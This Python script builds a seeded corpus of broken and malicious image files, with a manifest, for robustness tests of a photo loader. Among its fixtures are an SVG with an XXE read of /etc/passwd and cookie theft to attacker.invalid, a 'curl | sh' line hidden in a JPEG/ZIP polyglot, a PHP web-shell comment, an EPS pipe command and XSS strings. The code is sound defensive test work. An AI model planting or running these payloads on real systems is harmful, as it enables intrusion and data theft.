#!/usr/bin/env python3
"""Build the hostile-input corpus: broken, odd and malicious files for the robustness tests.

    python scripts/make_corpus.py [OUT]        (default: tests/corpus/generated/)

Every file is made here, from nothing but the test face ``tests/data/faces/compliant_a.jpg``
(CC BY 4.0, see its ATTRIBUTION.md) and a seeded random generator, so the corpus is the same
on every run and a fresh clone builds it in well under a second. Decompression bombs are
headers that *claim* a huge picture; nothing big is ever allocated.

``OUT/MANIFEST.json`` lists every entry with what it is and what the photo loader must
answer: ``{"expect": "report"}`` (the file is decoded and checked) or ``{"expect":
["input.truncated", ...]}`` (refused with one of these stable codes). Tests and
``bench/robustness.py`` read it. Writes are atomic (a temporary file, then a rename), so two
test workers building the corpus at once never see a half-written file.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import random
import struct
import sys
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from PIL import Image

ROOT = Path(__file__).resolve().parents[1]
FACE = ROOT / "tests" / "data" / "faces" / "compliant_a.jpg"
DEFAULT_OUT = ROOT / "tests" / "corpus" / "generated"
SEED = 8
MANIFEST = "MANIFEST.json"

# What the loader may answer for a file that cannot be checked.
TRUNCATED = ["input.truncated", "input.corrupt"]
REPORT = ["report"]


@dataclass(frozen=True)
class Entry:
    name: str
    build: Callable[[], bytes] | None  # None: a folder named like an image
    expect: list[str]  # "report", or the loader's error codes
    what: str
    orientation: int | None = None  # EXIF orientation of an upright face stored rotated


# -- building blocks ----------------------------------------------------------------------


def _face(size: tuple[int, int] | None = None) -> Image.Image:
    im = Image.open(FACE).convert("RGB")
    return im.resize(size, Image.Resampling.LANCZOS) if size else im


def _save(im: Image.Image, fmt: str, **kw) -> bytes:
    b = io.BytesIO()
    im.save(b, fmt, **kw)
    return b.getvalue()


def _jpeg(im: Image.Image | None = None, **kw) -> bytes:
    return _save(im if im is not None else _face(), "JPEG", quality=kw.pop("quality", 90), **kw)


def _rng() -> random.Random:
    return random.Random(SEED)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, raw: bytes, *, depth: int = 8, colour: int = 2, extra: bytes = b"") -> bytes:
    """A PNG written chunk by chunk: the IHDR says what we want, whatever the data holds."""
    ihdr = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + extra + _chunk(b"IDAT", zlib.compress(raw, 9))
            + _chunk(b"IEND", b""))


def _segment(marker: int, payload: bytes) -> bytes:
    """A JPEG marker segment (length counts itself, at most 65535)."""
    assert len(payload) + 2 <= 0xFFFF
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


def _insert_after_soi(jpeg: bytes, *segments: bytes) -> bytes:
    assert jpeg[:2] == b"\xff\xd8"
    return jpeg[:2] + b"".join(segments) + jpeg[2:]


def _sof_offset(jpeg: bytes) -> int:
    """Offset of the SOF0/SOF2 segment's marker in a JPEG."""
    i = 2
    while i < len(jpeg):
        marker = jpeg[i + 1]
        if marker in (0xC0, 0xC1, 0xC2):
            return i
        (length,) = struct.unpack(">H", jpeg[i + 2:i + 4])
        i += 2 + length
    raise ValueError("no SOF")


def _claim_size(jpeg: bytes, width: int, height: int) -> bytes:
    """A JPEG whose frame header claims ``width`` x ``height`` (the scan stays the small one)."""
    off = _sof_offset(jpeg) + 5  # FF Cx Lh Ll P | Yh Yl Xh Xl
    return jpeg[:off] + struct.pack(">HH", height, width) + jpeg[off + 4:]


def _exif(**tags) -> Image.Exif:
    exif = Image.Exif()
    for k, v in tags.items():
        exif[int(k[1:], 16)] = v
    return exif


# -- the entries -------------------------------------------------------------------------


def _empty() -> bytes:
    return b""


def _random(n: int) -> Callable[[], bytes]:
    return lambda: _rng().randbytes(n)


def _truncated_jpeg() -> bytes:
    data = _jpeg()
    return data[: len(data) // 2]


def _header_only_jpeg() -> bytes:
    data = _jpeg()
    sos = data.index(b"\xff\xda")
    return data[:sos]


def _soi_only() -> bytes:
    return b"\xff\xd8"


def _jpeg_no_eoi() -> bytes:
    return _jpeg()[:-2]


def _truncated_png() -> bytes:
    data = _save(_face(), "PNG")
    return data[: len(data) * 2 // 3]


def _png_signature_only() -> bytes:
    return b"\x89PNG\r\n\x1a\n"


def _png_bad_crc() -> bytes:
    data = bytearray(_save(_face((64, 80)), "PNG"))
    data[29] ^= 0xFF  # inside the IHDR's CRC
    return bytes(data)


def _png_zero_size() -> bytes:
    return _png(0, 0, b"")


def _text() -> bytes:
    return "これは写真ではありません。This is not a photo.\r\n".encode() * 40


def _svg() -> bytes:
    return (b'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
            b'<svg xmlns="http://www.w3.org/2000/svg" width="600" height="800" onload="alert(document.cookie)">'
            b'<script>fetch("http://attacker.invalid/?c="+document.cookie)</script><text>&xxe;</text></svg>\n')


def _html() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(1)</script><img src=x onerror=alert(2)></body></html>"


def _pdf() -> bytes:
    return b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n%%EOF\n"


def _eps() -> bytes:
    # EPS is a program for Ghostscript: it must never reach a decoder
    return (b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 600 800\n"
            b"(%pipe%id) (w) file closefile\nshowpage\n%%EOF\n")


def _heic() -> bytes:
    ftyp = struct.pack(">I", 24) + b"ftypheic" + struct.pack(">I", 0) + b"mif1heic"
    return ftyp + struct.pack(">I", 8 + 64) + b"meta" + _rng().randbytes(64) + _rng().randbytes(2000)


def _avif() -> bytes:
    return struct.pack(">I", 20) + b"ftypavif" + struct.pack(">I", 0) + b"mif1" + _rng().randbytes(1000)


def _mp4() -> bytes:
    return struct.pack(">I", 20) + b"ftypisom" + struct.pack(">I", 512) + b"isom" + _rng().randbytes(1000)


def _webp() -> bytes:
    return _save(_face(), "WEBP", quality=85)


def _webp_animated() -> bytes:
    frames = [_face((140, 180)).rotate(a) for a in (0, 10, 20)]
    return _save(frames[0], "WEBP", save_all=True, append_images=frames[1:], duration=100, loop=0)


def _tiff() -> bytes:
    return _save(_face(), "TIFF", compression="tiff_deflate")


def _tiff_bomb() -> bytes:
    # little-endian TIFF, one IFD: 40000 x 40000, 8-bit RGB, one strip of 8 bytes
    entries = [
        (256, 4, 1, 40000), (257, 4, 1, 40000), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 2),
        (273, 4, 1, 8 + 2 + 12 * 9 + 4), (277, 3, 1, 3), (278, 4, 1, 40000), (279, 4, 1, 8),
    ]
    ifd = struct.pack("<H", len(entries))
    for tag, typ, count, value in entries:
        packed = struct.pack("<H", value) + b"\0\0" if typ == 3 else struct.pack("<I", value)
        ifd += struct.pack("<HHI", tag, typ, count) + packed
    ifd += struct.pack("<I", 0)
    return b"II*\x00" + struct.pack("<I", 8) + ifd + b"\x00" * 8


def _bmp() -> bytes:
    return _save(_face(), "BMP")


def _bmp_bomb() -> bytes:
    # BITMAPINFOHEADER claiming 40000 x 40000 x 24 bit; 16 bytes of pixels
    pixels = b"\x00" * 16
    info = struct.pack("<IiiHHIIiiII", 40, 40000, 40000, 1, 24, 0, 0, 2835, 2835, 0, 0)
    head = b"BM" + struct.pack("<IHHI", 14 + len(info) + len(pixels), 0, 0, 14 + len(info))
    return head + info + pixels


def _gif_still() -> bytes:
    return _save(_face().convert("P", palette=Image.Palette.ADAPTIVE), "GIF")


def _gif_animated() -> bytes:
    frames = [_face((140, 180)).rotate(a).convert("P", palette=Image.Palette.ADAPTIVE) for a in (0, 5, 10, 15)]
    return _save(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=80, loop=0)


def _apng() -> bytes:
    frames = [_face((140, 180)).rotate(a) for a in (0, 8)]
    return _save(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=100, loop=0)


def _png16_grey() -> bytes:
    import numpy as np

    grey = (np.asarray(_face().convert("L"), dtype=np.uint16) * 257).astype(">u2")
    h, w = grey.shape
    raw = b"".join(b"\x00" + grey[y].tobytes() for y in range(h))
    return _png(w, h, raw, depth=16, colour=0)


def _png16_rgb() -> bytes:
    import numpy as np

    rgb = (np.asarray(_face(), dtype=np.uint16) * 257).astype(">u2")
    h, w = rgb.shape[:2]
    raw = b"".join(b"\x00" + rgb[y].tobytes() for y in range(h))
    return _png(w, h, raw, depth=16, colour=2)


def _png_palette() -> bytes:
    return _save(_face().convert("P", palette=Image.Palette.ADAPTIVE, colors=64), "PNG")


def _png_palette_transparent() -> bytes:
    im = _face().convert("P", palette=Image.Palette.ADAPTIVE, colors=64)
    return _save(im, "PNG", transparency=0)


def _png_rgba() -> bytes:
    im = _face().convert("RGBA")
    alpha = Image.new("L", im.size, 255)
    alpha.paste(0, (0, 0, im.width, im.height // 8))  # the top eighth fully transparent
    im.putalpha(alpha)
    return _save(im, "PNG")


def _png_la() -> bytes:
    return _save(_face().convert("LA"), "PNG")


def _png_1bit() -> bytes:
    return _save(_face().convert("1"), "PNG")


def _tiny(fmt: str) -> Callable[[], bytes]:
    return lambda: _save(Image.new("RGB", (1, 1), (200, 180, 170)), fmt)


def _strip_png() -> bytes:
    return _png(6000, 8, b"".join(b"\x00" + bytes([(x * 7) % 256 for x in range(6000 * 3)]) for _ in range(8)))


def _strip_jpeg() -> bytes:
    return _save(_face((8, 6000)), "JPEG", quality=80)


def _png_bomb() -> bytes:
    # 40,000 x 40,000 RGB claimed: 4.8 GB of pixels from a 100-byte file
    return _png(40000, 40000, b"\x00" * 1024)


def _png_bomb_grey16() -> bytes:
    return _png(40000, 40000, b"\x00" * 1024, depth=16, colour=0)


def _png_wide_bomb() -> bytes:
    # one row of 2**31-1 pixels: area looks small to a careless width*height with int32
    return _png(2**31 - 1, 1, b"\x00" * 64)


def _zeros_png(width: int, height: int, *, depth: int, colour: int, channels: int, level: int) -> bytes:
    """A PNG of zero pixels, compressed row by row (nothing of the picture's size is allocated)."""
    z = zlib.compressobj(level)
    row = b"\x00" * (1 + width * channels * depth // 8)
    idat = b"".join(z.compress(row) for _ in range(height)) + z.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def _png_zip_bomb() -> bytes:
    # 9400 x 9400 RGB (265 MB of pixels) in 250 KB: under every pixel limit, so it is decoded
    return _zeros_png(9400, 9400, depth=8, colour=2, channels=3, level=9)


def _png_largest_rgba16() -> bytes:
    # the largest picture the profiles accept (6000 px a side), RGBA at 16 bits: 288 MB decoded
    return _zeros_png(6000, 6000, depth=16, colour=6, channels=4, level=1)


def _jpeg_bomb() -> bytes:
    return _claim_size(_jpeg(Image.new("RGB", (16, 16), (128, 128, 128))), 40000, 40000)


def _jpeg_bomb_max() -> bytes:
    return _claim_size(_jpeg(Image.new("RGB", (16, 16), (128, 128, 128))), 65535, 65535)


def _gif_bomb() -> bytes:
    data = bytearray(_save(Image.new("P", (16, 16)), "GIF"))
    data[6:10] = struct.pack("<HH", 65535, 65535)  # logical screen
    return bytes(data)


def _ztxt_bomb() -> bytes:
    # a zTXt chunk that inflates to 64 MB of text (the picture itself is tiny)
    z = zlib.compressobj(9)
    block = b"A" * (1024 * 1024)
    text = b"".join(z.compress(block) for _ in range(64)) + z.flush()
    chunk = _chunk(b"zTXt", b"Comment\x00\x00" + text)
    return _png(64, 80, b"".join(b"\x00" + b"\x80" * 192 for _ in range(80)), extra=chunk)


def _polyglot_jpeg_zip() -> bytes:
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        info = zipfile.ZipInfo("payload/run.sh", date_time=(2024, 1, 1, 0, 0, 0))
        z.writestr(info, "#!/bin/sh\ncurl http://attacker.invalid | sh\n")
    return _jpeg() + b.getvalue()


def _polyglot_gif_js() -> bytes:
    # GIF89a/*...*/=alert(1); : the logical screen width bytes are "/*" (10799 px claimed)
    data = bytearray(_save(Image.new("P", (16, 16)), "GIF"))
    data[6:8] = b"/*"
    return bytes(data) + b"*/=alert(document.domain);//"


def _polyglot_png_html() -> bytes:
    html = b"<html><script>alert(document.cookie)</script></html>"
    png = _save(_face((140, 180)), "PNG")
    iend = png.rindex(b"IEND") - 4
    return png[:iend] + _chunk(b"tEXt", b"Comment\x00" + html) + png[iend:] + html


def _jpeg_php_comment() -> bytes:
    return _insert_after_soi(_jpeg(), _segment(0xFE, b"<?php system($_GET['c']); ?>"))


def _jpeg_cmyk() -> bytes:
    return _save(_face().convert("CMYK"), "JPEG", quality=90)


def _jpeg_grey() -> bytes:
    return _save(_face().convert("L"), "JPEG", quality=90)


def _jpeg_progressive() -> bytes:
    return _jpeg(progressive=True)


def _oriented(orientation: int) -> Callable[[], bytes]:
    """The upright face stored so that applying ``orientation`` shows it upright again."""
    inverse = {
        1: None, 2: Image.Transpose.FLIP_LEFT_RIGHT, 3: Image.Transpose.ROTATE_180,
        4: Image.Transpose.FLIP_TOP_BOTTOM, 5: Image.Transpose.TRANSPOSE, 6: Image.Transpose.ROTATE_90,
        7: Image.Transpose.TRANSVERSE, 8: Image.Transpose.ROTATE_270,
    }[orientation]

    def build() -> bytes:
        im = _face()
        stored = im.transpose(inverse) if inverse is not None else im
        return _save(stored, "JPEG", quality=92, exif=_exif(x0112=orientation))
    return build


def _exif_bad_orientation() -> bytes:
    return _save(_face(), "JPEG", quality=90, exif=_exif(x0112=9))


def _exif_huge() -> bytes:
    # one APP1 as big as a segment can be: a 65,000-byte UserComment and ImageDescription
    exif = _exif(x010E="x" * 30000)
    ifd = exif.get_ifd(0x8769)
    ifd[0x9286] = b"ASCII\x00\x00\x00" + b"y" * 30000
    return _save(_face(), "JPEG", quality=90, exif=exif)


def _exif_many_segments() -> bytes:
    # 64 APP1 segments of 64 KB each before the picture (4 MB of metadata)
    seg = _segment(0xE1, b"Exif\x00\x00" + b"II*\x00\x08\x00\x00\x00\x00\x00" + b"\x00" * 65000)
    return _insert_after_soi(_jpeg(), *([seg] * 64))


def _exif_corrupt() -> bytes:
    # TIFF header whose IFD claims 65535 entries and points past the end
    tiff = b"MM\x00*" + struct.pack(">I", 8) + struct.pack(">H", 0xFFFF) + struct.pack(">HHII", 0x8769, 4, 1, 0x7FFFFFF0)
    return _insert_after_soi(_jpeg(), _segment(0xE1, b"Exif\x00\x00" + tiff))


def _exif_loop() -> bytes:
    # an IFD whose next-IFD offset points back to itself
    ifd = struct.pack("<H", 1) + struct.pack("<HHII", 0x0112, 3, 1, 6) + struct.pack("<I", 8)
    return _insert_after_soi(_jpeg(), _segment(0xE1, b"Exif\x00\x00" + b"II*\x00" + struct.pack("<I", 8) + ifd))


def _exif_gps_serial() -> bytes:
    exif = _exif(x010F="MynaCam", x0110="Model X", x0131="firmware 1.0")
    exif.get_ifd(0x8769)[0xA431] = "SN-0123456789"  # BodySerialNumber
    exif.get_ifd(0x8769)[0xA435] = "LENS-98765"  # LensSerialNumber
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (35.0, 40.0, 30.0), 3: "E", 4: (139.0, 45.0, 10.0)})
    return _save(_face(), "JPEG", quality=92, exif=exif)


def _icc_huge() -> bytes:
    return _save(_face(), "JPEG", quality=90, icc_profile=_rng().randbytes(512 * 1024))


ENTRIES: list[Entry] = [
    Entry("empty.jpg", _empty, ["input.empty"], "zero bytes"),
    Entry("random_bytes.jpg", _random(4096), ["input.not_image"], "4 KB of random bytes named .jpg"),
    Entry("random_bytes.png", _random(300_000), ["input.not_image"], "300 KB of random bytes named .png"),
    Entry("truncated_half.jpg", _truncated_jpeg, TRUNCATED, "the face JPEG cut in half"),
    Entry("truncated_header_only.jpg", _header_only_jpeg, TRUNCATED, "JPEG headers, no scan data"),
    Entry("truncated_soi_only.jpg", _soi_only, [*TRUNCATED, "input.not_image"], "the two bytes FF D8"),
    Entry("jpeg_no_eoi.jpg", _jpeg_no_eoi, TRUNCATED + REPORT, "a whole scan without the end-of-image marker"),
    Entry("truncated.png", _truncated_png, TRUNCATED, "the face PNG cut at two thirds"),
    Entry("png_signature_only.png", _png_signature_only, [*TRUNCATED, "input.not_image"], "the 8-byte signature"),
    Entry("png_bad_crc.png", _png_bad_crc, [*TRUNCATED, "input.not_image"], "IHDR with a wrong CRC"),
    Entry("png_zero_size.png", _png_zero_size, ["input.empty", "input.corrupt", "input.not_image"], "IHDR says 0 x 0"),
    Entry("text_named.jpg", _text, ["input.not_image"], "text named .jpg"),
    Entry("svg_xxe_script.jpg", _svg, ["input.not_image"], "SVG with an XXE entity and script, named .jpg"),
    Entry("html_script.png", _html, ["input.not_image"], "HTML with script, named .png"),
    Entry("pdf_javascript.jpg", _pdf, ["input.not_image"], "a PDF with JavaScript, named .jpg"),
    Entry("eps_pipe.jpg", _eps, ["input.unsupported_format", "input.not_image"],
          "EPS (a Ghostscript program) named .jpg"),
    Entry("heic_phone.heic", _heic, ["input.corrupt"], "ISO-BMFF ftyp heic + junk (decoded by pillow-heif: damaged)"),
    Entry("heic_named.jpg", _heic, ["input.corrupt"], "the same HEIC named .jpg"),
    Entry("avif.avif", _avif, ["input.corrupt"], "ftyp avif + junk (decoded by Pillow: damaged)"),
    Entry("mp4_named.jpg", _mp4, ["input.not_image"], "an MP4 (ftyp isom) named .jpg"),
    Entry("webp_still.webp", _webp, REPORT, "the face as WebP"),
    Entry("webp_animated.webp", _webp_animated, ["input.animated"], "animated WebP, 3 frames"),
    Entry("tiff_deflate.tif", _tiff, REPORT, "the face as deflate TIFF"),
    Entry("tiff_bomb.tif", _tiff_bomb, ["input.too_many_pixels"], "TIFF header claiming 40,000 x 40,000"),
    Entry("bmp.bmp", _bmp, REPORT, "the face as BMP"),
    Entry("bmp_bomb.bmp", _bmp_bomb, ["input.too_many_pixels"], "BMP header claiming 40,000 x 40,000"),
    Entry("gif_still.gif", _gif_still, REPORT, "the face as a one-frame GIF"),
    Entry("gif_animated.gif", _gif_animated, ["input.animated"], "animated GIF, 4 frames"),
    Entry("apng_animated.png", _apng, ["input.animated"], "animated PNG (APNG), 2 frames"),
    Entry("png16_grey.png", _png16_grey, REPORT, "16-bit greyscale PNG"),
    Entry("png16_rgb.png", _png16_rgb, REPORT, "16-bit-per-channel RGB PNG"),
    Entry("png_palette.png", _png_palette, REPORT, "palette PNG, 64 colours"),
    Entry("png_palette_transparent.png", _png_palette_transparent, REPORT, "palette PNG with a transparent index"),
    Entry("png_rgba.png", _png_rgba, REPORT, "RGBA PNG, top eighth transparent"),
    Entry("png_grey_alpha.png", _png_la, REPORT, "grey + alpha PNG"),
    Entry("png_1bit.png", _png_1bit, REPORT, "1-bit PNG"),
    Entry("tiny_1x1.jpg", _tiny("JPEG"), REPORT, "a 1 x 1 JPEG"),
    Entry("tiny_1x1.png", _tiny("PNG"), REPORT, "a 1 x 1 PNG"),
    Entry("strip_6000x8.png", _strip_png, REPORT, "a 6000 x 8 PNG"),
    Entry("strip_8x6000.jpg", _strip_jpeg, REPORT, "an 8 x 6000 JPEG"),
    Entry("bomb_png_40000.png", _png_bomb, ["input.too_many_pixels"], "PNG header claiming 40,000 x 40,000"),
    Entry("bomb_png16_40000.png", _png_bomb_grey16, ["input.too_many_pixels"],
          "16-bit PNG header claiming 40,000 x 40,000"),
    Entry("bomb_png_wide.png", _png_wide_bomb, ["input.too_many_pixels", "input.corrupt"],
          "PNG header claiming 2,147,483,647 x 1"),
    Entry("bomb_jpeg_40000.jpg", _jpeg_bomb, ["input.too_many_pixels"], "JPEG frame claiming 40,000 x 40,000"),
    Entry("bomb_jpeg_65535.jpg", _jpeg_bomb_max, ["input.too_many_pixels"], "JPEG frame claiming 65,535 x 65,535"),
    Entry("bomb_gif_screen.gif", _gif_bomb, ["input.too_many_pixels"], "GIF screen claiming 65,535 x 65,535"),
    Entry("bomb_png_zlib_9400.png", _png_zip_bomb, ["report", "input.too_many_pixels"],
          "a 250 KB PNG of 9400 x 9400 pixels, under the pixel limits (a zip bomb that is decoded)"),
    Entry("png16_rgba_6000.png", _png_largest_rgba16, ["report", "input.too_many_pixels"],
          "6000 x 6000 RGBA at 16 bits per channel: the largest size the profiles accept"),
    Entry("bomb_png_ztxt.png", _ztxt_bomb, ["report", "input.corrupt"],
          "a small PNG with a zTXt chunk inflating to 64 MB"),
    Entry("polyglot_jpeg_zip.jpg", _polyglot_jpeg_zip, REPORT, "the face JPEG with a ZIP archive appended"),
    Entry("polyglot_gif_js.gif", _polyglot_gif_js, REPORT, "GIF89a/* ... */=alert() (a GIF that is also JavaScript)"),
    Entry("polyglot_png_html.png", _polyglot_png_html, REPORT, "PNG with HTML in a tEXt chunk and after IEND"),
    Entry("jpeg_php_comment.jpg", _jpeg_php_comment, REPORT, "the face JPEG with PHP in a comment segment"),
    Entry("jpeg_cmyk.jpg", _jpeg_cmyk, REPORT, "CMYK JPEG"),
    Entry("jpeg_grey.jpg", _jpeg_grey, REPORT, "greyscale JPEG"),
    Entry("jpeg_progressive.jpg", _jpeg_progressive, REPORT, "progressive JPEG"),
    *[Entry(f"exif_orientation_{o}.jpg", _oriented(o), REPORT,
            f"the upright face stored for EXIF orientation {o}", orientation=o) for o in range(1, 9)],
    Entry("exif_orientation_9.jpg", _exif_bad_orientation, REPORT, "EXIF orientation 9 (not a valid value)"),
    Entry("exif_huge.jpg", _exif_huge, REPORT, "one APP1 segment of about 60 KB of EXIF"),
    Entry("exif_64_segments.jpg", _exif_many_segments, REPORT, "64 APP1 segments of 64 KB (4 MB of metadata)"),
    Entry("exif_corrupt.jpg", _exif_corrupt, REPORT, "EXIF IFD claiming 65,535 entries, offsets past the end"),
    Entry("exif_ifd_loop.jpg", _exif_loop, REPORT, "EXIF IFD chain pointing back at itself"),
    Entry("exif_gps_serial.jpg", _exif_gps_serial, REPORT, "GPS position, camera and lens serial numbers"),
    Entry("icc_512k.jpg", _icc_huge, REPORT, "a 512 KB random ICC profile over eight APP2 segments"),
    Entry("name with spaces.jpg", _jpeg, REPORT, "a file name with spaces"),
    Entry("顔写真　申請用.jpg", _jpeg, REPORT, "a Japanese file name with an ideographic space"),
    Entry("café ñ 📷.png", lambda: _save(_face(), "PNG"), REPORT, "accents and an emoji in the file name"),
    Entry("-leading-dash.jpg", _jpeg, REPORT, "a file name starting with a dash"),
    Entry("new\nline.jpg", _jpeg, REPORT, "a newline in the file name"),
    Entry("UPPER.JPEG", _jpeg, REPORT, "an upper-case extension"),
    Entry("<img src=x onerror=alert(1)>.jpg", _jpeg, REPORT, "HTML in the file name (reports must escape it)"),
    Entry("folder.jpg", None, ["input.unreadable"], "a folder named like a photo"),
]


def expected_codes(entry: Entry) -> set[str]:
    """Loader error codes accepted for ``entry`` ("report" means: decoded, checks ran)."""
    return set(entry.expect)


def _write_atomic(path: Path, data: bytes) -> None:
    fd, tmp = tempfile.mkstemp(dir=path.parent, prefix=".tmp-")
    try:
        with os.fdopen(fd, "wb") as f:
            f.write(data)
        os.chmod(tmp, 0o644)
        os.replace(tmp, path)
    except BaseException:
        Path(tmp).unlink(missing_ok=True)
        raise


def _version() -> str:
    return hashlib.sha256(Path(__file__).read_bytes() + FACE.read_bytes()).hexdigest()[:16]


def load_manifest(out: Path = DEFAULT_OUT) -> list[dict] | None:
    """The manifest of an up-to-date corpus in ``out``, or None when it must be (re)built."""
    try:
        doc = json.loads((out / MANIFEST).read_text(encoding="utf-8"))
    except (OSError, ValueError):
        return None
    if not isinstance(doc, dict) or doc.get("version") != _version():
        return None
    entries = doc.get("entries", [])
    if not all((out / e["file"]).exists() for e in entries):
        return None
    return entries


def build(out: Path = DEFAULT_OUT, *, force: bool = False) -> list[dict]:
    """Write every entry into ``out`` (and MANIFEST.json); return the manifest's entries.

    An up-to-date corpus (same script, same face photo) is left as it is unless ``force``.
    """
    if not force:
        current = load_manifest(out)
        if current is not None:
            return current
    out.mkdir(parents=True, exist_ok=True)
    manifest = []
    for e in ENTRIES:
        path = out / e.name
        if e.build is None:
            path.mkdir(exist_ok=True)
        else:
            data = e.build()
            if not (path.is_file() and path.stat().st_size == len(data) and path.read_bytes() == data):
                _write_atomic(path, data)
        manifest.append({"file": e.name, "expect": sorted(expected_codes(e)), "what": e.what,
                         "folder": e.build is None, "orientation": e.orientation})
    doc = {"version": _version(), "entries": manifest}
    _write_atomic(out / MANIFEST, json.dumps(doc, ensure_ascii=False, indent=1).encode("utf-8"))
    known = {e.name for e in ENTRIES} | {MANIFEST}
    for p in out.iterdir():  # files of an older corpus version
        if p.name not in known and not p.name.startswith(".tmp-") and p.is_file():
            p.unlink(missing_ok=True)
    return manifest


def main(argv: list[str]) -> int:
    out = Path(argv[1]) if len(argv) > 1 else DEFAULT_OUT
    manifest = build(out, force=True)
    print(f"{len(manifest)} corpus entries in {out}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
